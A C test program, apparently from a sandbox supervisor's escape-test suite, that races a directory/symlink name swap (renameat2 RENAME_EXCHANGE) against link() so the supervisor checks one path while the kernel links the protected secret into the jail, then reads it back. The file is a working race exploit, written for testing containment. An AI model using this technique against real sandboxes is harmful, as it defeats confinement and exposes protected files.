/* e0205-component-swap-link - the directory-component swap of e0202,
 * against a path call other than open: link().
 *
 * Attack: "e0205-d" is a real directory holding a decoy named like the
 * secret, "e0205-s" a symbolic link to the secret's directory; two
 * threads swap the two names (renameat2 RENAME_EXCHANGE) while another
 * hard-links "e0205-d/NAME" to new names "e0205-got.N" in the cwd, then
 * reads them.  The supervisor checks the path while e0205-d is the
 * directory; the kernel may walk it when e0205-d is the symlink, and link
 * the secret itself into the jail's tree (same file system).  The decoy's
 * link count shows when a link went elsewhere.
 * Source: Garfinkel 2003, "Traps and Pitfalls" (races on path
 * components).  Contained by janus's pinned directories (doc/races.md,
 * section 2).
 * Usage: e0205-component-swap-link SECRET */
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "escape.h"

#define SWAPPERS 2

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0205-component-swap-link SECRET");
	char decoy[PATH_MAX * 2];
	struct esc_swap w;
	esc_swap_make(&w, "e0205", argv[1], "decoy\n", decoy, sizeof decoy);
	/* The decoy's link count tells, with no checked call, whether every
	 * link made was a link to it. */
	int dfd = open(decoy, O_RDONLY | O_CLOEXEC);
	if (dfd < 0)
		esc_die(decoy);
	esc_swap_start(&w, SWAPPERS);
	struct esc_race r;
	long made = 0, refused = 0;
	bool other = false;
	char name[64], buf[512];
	esc_race_init(&r);
	while (!other && esc_race_go(&r)) {
		snprintf(name, sizeof name, "e0205-got.%ld", made);
		if (link(decoy, name) < 0) {
			refused++;
			continue;
		}
		made++;
		struct stat st;
		if (made % 16 == 0 && fstat(dfd, &st) == 0 && (long)st.st_nlink - 1 < made)
			other = true;
	}
	esc_swap_stop(&w);
	bool shown = false;
	for (long i = 0; i < made; i++) {
		snprintf(name, sizeof name, "e0205-got.%ld", i);
		if (!shown && esc_read_file(name, buf, sizeof buf) >= 0 &&
		    strcmp(buf, "decoy\n") != 0) {
			buf[strcspn(buf, "\n")] = '\0';
			printf("read through a new link: read '%s'\n", buf);
			shown = true;
		}
		unlink(name);
	}
	printf("link race: %ld tries, %ld linked, %ld refused\n", r.tries, made, refused);
	return 0;
}
